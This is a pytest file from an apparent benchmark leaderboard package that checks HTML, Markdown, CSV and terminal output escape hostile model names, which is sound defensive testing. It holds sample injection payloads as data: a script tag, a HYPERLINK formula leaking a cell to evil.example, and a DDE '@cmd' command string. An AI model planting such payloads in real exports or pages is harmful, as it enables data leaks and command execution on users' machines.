"""Hostile backbone names in every output: HTML plots, Markdown, CSV (D15)."""

from __future__ import annotations

import csv
import io

import pytest

from plipbench.leaderboard import build_leaderboard

MATH = "$x^$"
SCRIPT = "<script>alert(1)</script> & co | ltd"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _board(make_retrieval, make_attribute, names, **kwargs):
    results = []
    for i, name in enumerate(names):
        results.append(make_retrieval(name, "cuhk-pedes", hit_rate=0.4 + 0.1 * i, seed=i))
        results.append(make_attribute(name, noise=0.5 + 0.1 * i, seed=i))
    return build_leaderboard(results, **kwargs)


def test_html_report_with_a_mathtext_name(make_retrieval, make_attribute) -> None:
    html = _board(make_retrieval, make_attribute, [MATH, SCRIPT, "plain"], with_ci=True, n_resamples=50).to_html()
    assert html.count("data:image/png;base64,") >= 3  # task plots and the per-attribute plot (legend) drawn
    assert "<script>" not in html and "&lt;script&gt;" in html


def test_markdown_shows_html_and_pipes_as_text(make_retrieval, make_attribute) -> None:
    md = _board(make_retrieval, make_attribute, [SCRIPT, "plain"]).to_markdown()
    assert "<script>" not in md and "</script>" not in md
    assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; co \\| ltd" in md
    row = next(line for line in md.splitlines() if "alert" in line)
    assert row.replace("\\|", "").count("|") == md.splitlines()[2].count("|")  # the pipe did not add a cell


def test_csv_neutralises_formulas_but_not_numbers(make_retrieval, make_attribute) -> None:
    text = _board(make_retrieval, make_attribute, [FORMULA, "@SUM(1+1)", "-1+2", "plain"]).to_csv()
    rows = list(csv.DictReader(io.StringIO(text)))
    names = [r["backbone"] for r in rows]
    assert "'" + FORMULA in names and "'@SUM(1+1)" in names and "'-1+2" in names and "plain" in names
    assert not any(cell.startswith(("=", "@", "+")) for r in rows for cell in r.values())
    assert all(float(r["average_rank"]) > 0 for r in rows)  # numbers untouched


def test_compare_csv_neutralises_names_and_keeps_negative_differences(make_retrieval) -> None:
    from plipbench.leaderboard import compare as cmp

    # a result file from elsewhere can name its task anything; the comparison's cells carry it
    results = [make_retrieval("a", "@cmd|' /C calc'!A0", hit_rate=0.3, seed=0),
               make_retrieval("b", "@cmd|' /C calc'!A0", hit_rate=0.6, seed=1)]
    frame = cmp.compare_backbones(results, "a", "b", n_resamples=50, seed=0)
    text = cmp.compare_csv(frame)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["task"] == "'@cmd|' /C calc'!A0"
    assert float(rows[0]["difference"]) < 0  # a plain negative number, not quoted


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-cmd", "'-cmd"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("-12.3", "-12.3"), ("+4", "+4"), (-12.3, -12.3), ("PLIP-mini", "PLIP-mini"), (None, None),
])
def test_csv_cell(value, expected) -> None:
    from plipbench.leaderboard.escape import csv_cell

    assert csv_cell(value) == expected


def test_md_cell() -> None:
    from plipbench.leaderboard.escape import md_cell

    assert md_cell("a<b>&c|d\ne") == "a&lt;b&gt;&amp;c\\|d e"


def test_terminal_table_shows_rich_markup_in_names_as_text(make_retrieval, make_attribute) -> None:
    from plipbench.leaderboard.render_terminal import render_plain_text

    board = _board(make_retrieval, make_attribute, ["x[/]y", "[bold red]loud[/bold red]"])
    text = render_plain_text(board.rich_table())
    assert "x[/]y" in text and "[bold red]loud[/bold red]" in text
